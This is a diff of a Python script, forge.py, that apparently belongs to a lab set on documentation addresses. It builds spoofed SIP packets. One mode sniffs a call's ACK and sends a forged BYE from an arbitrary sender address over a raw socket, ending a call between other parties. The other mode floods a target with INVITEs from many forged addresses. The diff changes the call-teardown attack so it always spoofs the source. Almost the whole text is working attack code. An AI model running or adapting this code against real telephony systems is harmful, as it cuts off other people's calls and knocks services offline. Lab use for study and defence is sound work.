@@ -1,8 +1,10 @@
 #!/usr/bin/env python3
 """Packets that no tool of the lab makes: a BYE into a call that somebody else has, and INVITEs from addresses that nobody has.
 
-    forge.py bye INTERFACE CALLEE own|forged     hears at INTERFACE how a call to CALLEE (address:port) is set up, waits two seconds, ends it
-    forge.py flood TARGET RATE SECONDS           INVITEs to TARGET from many forged addresses
+    forge.py bye INTERFACE CALLEE SENDER     hears at INTERFACE how a call to CALLEE is set up, waits two seconds, ends it as SENDER
+    forge.py flood TARGET RATE SECONDS       INVITEs to TARGET from many forged addresses
+
+CALLEE and SENDER are address:port.
 
 Runs in a host of the lab; everything is on documentation addresses.
 """
@@ -53,27 +55,23 @@ def header(message, name):
     return re.search(rb"^" + name + rb":[ \t]*(.*?)\r?$", message, re.M | re.I)[1].decode()
 
 
-def end_a_call(interface, callee, how):
+def endpoint(text):
+    address, _, port = text.partition(":")
+    return address, int(port)
+
+
+def end_a_call(interface, victim, here):
     """What a man in the middle can do: the ACK that the callee gets has all that a BYE needs."""
-    address, port = callee.split(":")
-    victim = (address, int(port))
     for _, destination, message in heard(interface):
         if destination == victim and message.startswith(b"ACK "):
             break
-    caller = re.search(r"<sip:([^@]+)@", header(message, b"From"))[1]
-    here = ("192.0.2.66", 5060) if how == "own" else (f"192.0.2.{int(caller) - 900}", 5062)
     time.sleep(2)
     bye = (f"BYE {message.split()[1].decode()} SIP/2.0\r\n"
            f"Via: SIP/2.0/UDP {here[0]}:{here[1]};branch=z9hG4bK{time.time_ns():x}\r\n"
            f"From: {header(message, b'From')}\r\nTo: {header(message, b'To')}\r\nCall-ID: {header(message, b'Call-ID')}\r\n"
            f"CSeq: {int(header(message, b'CSeq').split()[0]) + 1} BYE\r\nMax-Forwards: 70\r\nContent-Length: 0\r\n\r\n").encode()
-    if how == "own":
-        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as plain:
-            plain.bind(here)
-            plain.sendto(bye, victim)
-    else:
-        with raw() as sender:
-            sender.sendto(datagram(here, victim, bye, 1), victim)
+    with raw() as sender:
+        sender.sendto(datagram(here, victim, bye, 1), victim)
     print("BYE sent for", header(message, b"Call-ID"))
 
 
@@ -96,7 +94,7 @@ def flood(target, rate, seconds):
 
 def main():
     if sys.argv[1] == "bye":
-        end_a_call(sys.argv[2], sys.argv[3], sys.argv[4])
+        end_a_call(sys.argv[2], endpoint(sys.argv[3]), endpoint(sys.argv[4]))
     else:
         flood(sys.argv[2], float(sys.argv[3]), float(sys.argv[4]))
 
